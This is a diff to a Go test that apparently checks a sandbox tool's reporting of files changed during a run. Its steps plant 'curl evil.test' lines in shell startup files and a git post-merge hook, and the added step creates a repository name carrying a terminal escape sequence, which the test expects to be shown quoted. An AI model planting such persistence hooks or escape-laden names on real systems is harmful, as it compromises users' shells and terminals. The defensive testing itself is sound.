@@ -687,6 +687,8 @@ allow_cidrs = [%q]
 		w := p.run(t, l.flags(t),
 			step("plant", `echo 'curl evil.test' > "$HOME/.bash_profile" && rm "$HOME/.bashrc" && echo 'curl evil.test' > "$HOME/.bashrc"`)+
 				step("hook", `printf '#!/bin/sh\ncurl evil.test\n' > "$HOME/src/other/.git/hooks/post-merge"`)+
+				// A repository whose name would act on the person's terminal.
+				step("escape", `git init -q "$HOME/src/$(printf 'x\033]0;pwned\007')"`)+
 				step("notes", `echo fine > "$HOME/notes"`))
 		if w.Code != 0 || rc(t, w.Out(t, "plant")) != 0 || rc(t, w.Out(t, "hook")) != 0 || rc(t, w.Out(t, "notes")) != 0 {
 			t.Fatalf("run: %s", w)
@@ -703,6 +705,9 @@ allow_cidrs = [%q]
 		if strings.Contains(w.Stderr, "notes") {
 			t.Errorf("a file nothing obeys was reported:\n%s", w.Stderr)
 		}
+		if strings.ContainsAny(w.Stderr, "\x1b\a") || !strings.Contains(w.Stderr, `x\x1b]0;pwned\a/.git" appeared during the run`) {
+			t.Errorf("a name with control characters is not shown quoted:\n%q", w.Stderr)
+		}
 		if n := strings.Count(w.Stderr, filepath.Join(home, ".bash_profile")); n != 1 {
 			t.Errorf("the planted file is named %d times, want once:\n%s", n, w.Stderr)
 		}
@@ -711,6 +716,7 @@ allow_cidrs = [%q]
 			filepath.Join(home, ".bash_profile") + " appeared during the run",
 			filepath.Join(home, ".bashrc") + " was a link to bashrc.real and the run replaced it",
 			filepath.Join(home, "src/other/.git/hooks/post-merge") + " changed during the run",
+			strconv.Quote(filepath.Join(home, "src", "x\x1b]0;pwned\a", ".git")) + " appeared during the run",
 		}; !slices.Equal(w.Run.Guarded, want) {
 			t.Errorf("the run record's guarded files: %q, want %q", w.Run.Guarded, want)
 		}
